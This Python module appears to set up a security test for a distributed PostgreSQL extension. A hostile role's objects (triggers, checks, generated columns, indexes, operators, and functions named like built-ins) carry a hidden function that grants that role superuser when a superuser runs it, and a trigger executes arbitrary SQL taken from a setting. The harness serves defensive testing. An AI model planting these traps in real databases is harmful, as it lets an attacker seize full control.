# SPDX-License-Identifier: PostgreSQL
"""The stage: a database of its own on all nodes, a plain role with tables, and another role's tables that it may not see.

Whatever mallory owns tries to make her a superuser when somebody runs it with a superuser's rights: `gain` stands in her
triggers, checks, generated columns, indexes, views, operators and in functions named as PostgreSQL's own."""

import os
import signal

from session import Session

MALLORY, ALICE, ADMIN = "hostile_mallory", "hostile_alice", os.environ.get("PGUSER", "postgres")
DATABASE = "hostile"


class Server:
    def __init__(self, name, host, port):
        self.name, self.host, self.port = name, host, int(port)

    def __repr__(self):
        return self.name


# It runs as whoever calls it.
MALLORYS = ("""
CREATE FUNCTION playground.rise() RETURNS int LANGUAGE plpgsql VOLATILE AS $$
BEGIN
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) current_user) THEN
    RAISE LOG 'hostile: ran with the rights of %', current_user;  -- read by watch.py, even if all else is rolled back
    UPDATE pg_catalog.pg_authid SET rolsuper = true WHERE rolname OPERATOR(pg_catalog.=) 'hostile_mallory';
  END IF;
  RETURN 0;
EXCEPTION WHEN OTHERS THEN RETURN 0;
END $$;
-- Says that it changes nothing, so it may stand in indexes and generated columns.
CREATE FUNCTION playground.gain() RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN playground.rise(); END $$;
CREATE FUNCTION playground.gain(anyelement) RETURNS int LANGUAGE sql IMMUTABLE AS 'SELECT playground.gain()';
CREATE FUNCTION playground.obey() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  PERFORM playground.gain();
  IF current_setting('hostile.payload', true) <> '' THEN EXECUTE current_setting('hostile.payload'); END IF;
  RETURN NEW;
END $$;
CREATE FUNCTION playground.move(of regclass, mode text) RETURNS void LANGUAGE plpgsql AS $$
DECLARE it record;
BEGIN
  SELECT s.shardid AS shard, n.nodeid AS source, (SELECT min(m.nodeid) FROM pg_catalog.pg_dist_node m WHERE m.nodeid <> n.nodeid) AS target
  INTO it FROM pg_catalog.pg_dist_shard s JOIN pg_catalog.pg_dist_placement p USING (shardid) JOIN pg_catalog.pg_dist_node n USING (groupid)
  WHERE s.logicalrelid = of ORDER BY s.shardid LIMIT 1;
  PERFORM pg_catalog.citus_move_shard_placement(it.shard, it.source, it.target, mode::citus.shard_transfer_mode);
END $$;
CREATE FUNCTION playground.run(text, anyelement) RETURNS text LANGUAGE plpgsql AS $$
DECLARE result text;
BEGIN
  EXECUTE $1 INTO result;
  RETURN result;
END $$;
""", """
CREATE FUNCTION playground.same(int, int) RETURNS bool LANGUAGE sql IMMUTABLE
  AS 'SELECT playground.gain() OPERATOR(pg_catalog.=) 0 AND $1 OPERATOR(pg_catalog.=) $2';
CREATE FUNCTION playground.same(bigint, bigint) RETURNS bool LANGUAGE sql IMMUTABLE
  AS 'SELECT playground.gain() OPERATOR(pg_catalog.=) 0 AND $1 OPERATOR(pg_catalog.=) $2';
CREATE FUNCTION playground.same(oid, oid) RETURNS bool LANGUAGE sql IMMUTABLE
  AS 'SELECT playground.gain() OPERATOR(pg_catalog.=) 0 AND $1 OPERATOR(pg_catalog.=) $2';
CREATE FUNCTION playground.same(text, text) RETURNS bool LANGUAGE sql IMMUTABLE
  AS 'SELECT playground.gain() OPERATOR(pg_catalog.=) 0 AND $1 OPERATOR(pg_catalog.=) $2';
CREATE OPERATOR playground.= (LEFTARG = int, RIGHTARG = int, FUNCTION = playground.same);
CREATE OPERATOR playground.= (LEFTARG = bigint, RIGHTARG = bigint, FUNCTION = playground.same);
CREATE OPERATOR playground.= (LEFTARG = oid, RIGHTARG = oid, FUNCTION = playground.same);
CREATE OPERATOR playground.= (LEFTARG = text, RIGHTARG = text, FUNCTION = playground.same);
CREATE FUNCTION playground.quote_literal(text) RETURNS text LANGUAGE sql IMMUTABLE
  AS 'SELECT pg_catalog.quote_literal($1) FROM (SELECT playground.gain()) it';
CREATE FUNCTION playground.json_to_recordset(json) RETURNS SETOF record LANGUAGE sql AS 'SELECT playground.gain(), 1';
CREATE FUNCTION playground.pg_relation_size(regclass) RETURNS bigint LANGUAGE sql AS 'SELECT playground.gain()::bigint';
CREATE FUNCTION playground.current_setting(text) RETURNS text LANGUAGE sql AS 'SELECT playground.gain()::text';
CREATE DOMAIN playground.small AS int CHECK (VALUE + playground.gain() < 100000);
CREATE TABLE playground.d (k int PRIMARY KEY, v text DEFAULT 'x', n int CHECK (n + playground.gain() < 100000), s playground.small,
  g int GENERATED ALWAYS AS (k + playground.gain()) STORED);
CREATE INDEX ON playground.d ((n + playground.gain())) WHERE n + playground.gain() > 0;
CREATE TABLE playground.t (k text, v int);
CREATE TABLE playground.p (k int, day date) PARTITION BY RANGE (day);
CREATE TABLE playground.p1 PARTITION OF playground.p FOR VALUES FROM ('2020-01-01') TO ('2030-01-01');
CREATE TABLE playground.ref (k int PRIMARY KEY, v text);
CREATE TABLE playground.l (k int, v text);
CREATE TABLE playground.o (k int, v text);
CREATE SEQUENCE playground.seq;
SELECT create_distributed_table('playground.d', 'k', shard_count => 4, colocate_with => 'none');
SELECT create_distributed_table('playground.t', 'k', shard_count => 4, colocate_with => 'none');
SELECT create_distributed_table('playground.p', 'k', colocate_with => 'playground.d');
SELECT create_distributed_table('playground.o', NULL);
SELECT create_reference_table('playground.ref');
INSERT INTO playground.d (k, v, n, s) SELECT i, 'v' || i, i, i FROM generate_series(1, 40) i;
INSERT INTO playground.t SELECT 't' || i, i FROM generate_series(1, 40) i;
INSERT INTO playground.p SELECT i, '2024-01-01' FROM generate_series(1, 20) i;
INSERT INTO playground.ref SELECT i, 'r' FROM generate_series(1, 10) i;
CREATE TRIGGER obey BEFORE INSERT OR UPDATE ON playground.d FOR EACH ROW EXECUTE FUNCTION playground.obey();
CREATE TRIGGER obey BEFORE INSERT OR UPDATE ON playground.ref FOR EACH ROW EXECUTE FUNCTION playground.obey();
CREATE VIEW playground.view AS SELECT k, v, playground.gain(k) AS gained FROM playground.d;
CREATE TYPE playground.color AS ENUM ('red', 'green');
""")

ALICES = """
CREATE TABLE vault.secret (k int PRIMARY KEY, v text);
CREATE TABLE vault.local (k int, v text);
CREATE TABLE vault.names (k int PRIMARY KEY, v text);
CREATE TABLE vault.lent (k int, v text);
SELECT create_distributed_table('vault.secret', 'k', shard_count => 4, colocate_with => 'none');
SELECT create_distributed_table('vault.lent', 'k', colocate_with => 'vault.secret');
SELECT create_reference_table('vault.names');
INSERT INTO vault.secret SELECT i, 'secret of alice ' || i FROM generate_series(1, 50) i;
INSERT INTO vault.lent SELECT i, 'lent ' || i FROM generate_series(1, 50) i;
INSERT INTO vault.names SELECT i, 'secret name ' || i FROM generate_series(1, 10) i;
INSERT INTO vault.local SELECT i, 'secret and local ' || i FROM generate_series(1, 10) i;
CREATE SEQUENCE vault.seq;
CREATE VIEW shown.some AS SELECT k, v FROM vault.lent WHERE k < 10;
GRANT SELECT, INSERT ON shown.some TO hostile_mallory;
"""


class Stage:
    def __init__(self, servers):
        self.servers = servers
        self.coordinator = servers[0]
        self.admins = {server: Session(server, ADMIN, DATABASE) for server in servers}

    def ask(self, server, sql):
        for _ in range(5):  # a crash of the server takes this session along
            outcome = self.admins[server].run(sql)
            if outcome.state != "lost":
                break
        if outcome.state:
            raise RuntimeError(f"{server}: {sql[:200]}: {outcome}")
        return outcome.rows

    def end(self, server, pid):
        """Ends a session that hangs, if need be as nothing else does: then the server recovers."""
        rows = self.ask(server, f"SELECT pg_terminate_backend({pid}, 5000)")
        if rows[0][0]:
            return
        print(f"# killing process {pid}", flush=True)
        os.kill(pid, signal.SIGKILL)

    def _outside(self, server, sql):
        session = Session(server, ADMIN, "postgres")
        outcome = session.run(sql)
        session.close()
        if outcome.state:
            raise RuntimeError(f"{server}: {sql[:200]}: {outcome}")

    def strike(self):
        """Takes everything away again."""
        for server in self.servers:
            admin = self.admins[server]
            for (gid,) in admin.run("SELECT gid FROM pg_prepared_xacts WHERE database = current_database()").rows or ():
                admin.run(f"ROLLBACK PREPARED '{gid}'")
        for admin in self.admins.values():
            admin.close()
        for server in self.servers:
            self._outside(server, f"DROP DATABASE IF EXISTS {DATABASE} WITH (FORCE)")
            for role in (MALLORY, ALICE):
                self._outside(server, f"DROP ROLE IF EXISTS {role}")

    def build(self):
        self.strike()
        for server in self.servers:
            self._outside(server, f"CREATE DATABASE {DATABASE}")
            for role in (MALLORY, ALICE):
                self._outside(server, f"CREATE ROLE {role} LOGIN")
            # SQLSTATEs in the server's log, the statements themselves not: some are a megabyte long.
            self._outside(server, f"ALTER ROLE {MALLORY} SET log_error_verbosity = verbose")
            self._outside(server, f"ALTER ROLE {MALLORY} SET log_min_error_statement = panic")
            self.ask(server, "CREATE EXTENSION altius")
        here = self.coordinator
        self.ask(here, f"SELECT citus_set_coordinator_host('{here.host}', {here.port})")
        for server in self.servers[1:]:
            self.ask(here, f"SELECT citus_add_node('{server.host}', {server.port})")
        for schema, owner in (("playground", MALLORY), ("vault", ALICE), ("shown", ALICE)):
            self.ask(here, f"CREATE SCHEMA {schema} AUTHORIZATION {owner}")
        self.ask(here, f"GRANT USAGE ON SCHEMA shown TO {MALLORY}")
        self._as(MALLORY, MALLORYS)
        self._as(ALICE, (ALICES,))

    def _as(self, role, scripts):
        session = Session(self.coordinator, role, DATABASE)
        for script in scripts:
            for statement in split(script):
                outcome = session.run(statement)
                if outcome.state:
                    raise RuntimeError(f"{role}: {statement[:200]}: {outcome}")
        session.close()


def split(script):
    """Statements of a script; quotes may hold semicolons."""
    statements, start, quote = [], 0, None
    i = 0
    while i < len(script):
        if script[i] == "'" and quote in (None, "'"):
            quote = None if quote else "'"
        elif script[i] == "$" and quote != "'":
            end = script.find("$", i + 1)
            tag = script[i:end + 1]
            if end > 0 and tag[1:-1].replace("_", "a").isalnum() or tag == "$$":
                if quote is None:
                    quote = tag
                elif quote == tag:
                    quote = None
                i = end
        elif script[i] == ";" and quote is None:
            statements.append(script[start:i].strip())
            start = i + 1
        i += 1
    if script[start:].strip():
        statements.append(script[start:].strip())
    return [statement for statement in statements if statement]
